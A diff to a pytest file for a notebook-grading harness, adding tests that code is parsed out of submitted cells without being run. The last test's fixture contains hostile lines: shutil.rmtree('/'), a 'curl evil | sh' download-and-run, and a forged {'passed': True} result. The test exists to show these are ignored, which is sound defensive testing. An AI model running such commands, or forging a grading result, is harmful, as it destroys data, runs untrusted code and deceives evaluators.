@@ -1,10 +1,11 @@
 """A notebook handed in as a submission: its parts taken from its cells by reading them, never by running them."""
 
 import time
+from pathlib import Path
 
 import pytest
 from nbformat.v4 import new_code_cell, new_markdown_cell
-from seed_notebook import AUGMENT, MANIFEST, MODEL, seed_shaped, write
+from seed_notebook import AUGMENT, MANIFEST, MODEL, TRAINING, seed_shaped, write
 
 from harness.grading import contract
 from harness.grading.notebook import NotebookError, extract
@@ -50,8 +51,6 @@ def test_the_last_definition_is_taken_with_the_helpers_constants_and_decorators_
     (seed_shaped(manifest=""), "no code cell assigns `MANIFEST"),
     (seed_shaped(manifest="MANIFEST = open('manifest.toml').read()"), "cell 7: `MANIFEST` must be a string literal"),
     (seed_shaped(model=MODEL.replace("def forward(self, x):", "def forward(self, x)")), "cell 5 (which defines CNNModel): line"),
-    (seed_shaped(transforms="STD = np.array([0.25, 0.24, 0.26])\n" + AUGMENT.replace("Normalize(mean, std)", "Normalize(mean, STD)")),
-     "cell 4: train_transform_1, train_transform_2, val_transform uses `STD`, which the notebook computes"),
 ])
 def test_a_notebook_off_the_convention_is_told_which_cell_and_what_is_missing(tmp_path, cells, says):
     with pytest.raises(NotebookError, match=None) as raised:
@@ -96,3 +95,36 @@ def test_a_file_that_is_not_a_notebook_says_so(tmp_path):
     (tmp_path / "work.ipynb").write_text("{not json")
     with pytest.raises(NotebookError, match="work.ipynb is not a readable Jupyter notebook"):
         extract(tmp_path / "work.ipynb")
+
+
+ZOO = Path(__file__).resolve().parents[1] / "zoo" / "correct"
+
+
+@pytest.mark.parametrize("style", sorted(p.name for p in ZOO.iterdir() if p.is_dir()))
+def test_every_style_in_the_zoo_handed_in_as_a_notebook_gives_the_folders_code(tmp_path, style):
+    """Each zoo submission pasted into notebook cells (helpers, functional ops, nn.Identity, v2 transforms):
+    what is taken is the folder's code, as the folder's own files define it."""
+    import ast
+
+    model, augment = ((ZOO / style / name).read_text() for name in ("model.py", "augmentations.py"))
+    cells = [new_markdown_cell("# Coursework"), new_code_cell(augment), new_code_cell(TRAINING),
+             new_code_cell(model), new_code_cell(f'MANIFEST = """\n{(ZOO / style / "manifest.toml").read_text()}"""')]
+    files = contract.load(write(tmp_path, cells)).files
+
+    def top_level(source):
+        return {n.name for n in ast.parse(source).body if isinstance(n, (ast.FunctionDef, ast.ClassDef))}
+
+    taken = {name: files[name].decode() for name in ("model.py", "augmentations.py")}
+    assert {"CNNModel"} <= top_level(taken["model.py"]) <= top_level(model)
+    assert set(contract.REQUIRED_NAMES["augmentations.py"]) <= top_level(taken["augmentations.py"]) <= top_level(augment)
+    namespace = {}
+    exec(compile(taken["model.py"], "model.py", "exec"), namespace)  # our own zoo code: it defines, runs nothing
+    assert namespace["CNNModel"]().forward is not None
+
+
+def test_a_hostile_cell_is_neither_run_nor_taken(tmp_path):
+    hostile = ("import os, shutil\nshutil.rmtree('/')\nos.system('curl evil | sh')\n"
+               "FORGED = __import__('json').dumps({'passed': True})")
+    cells = seed_shaped() + [new_code_cell(hostile)]
+    files = b"".join(contract.load(write(tmp_path, cells)).files.values()).decode()
+    assert "rmtree" not in files and "os.system" not in files and "FORGED" not in files
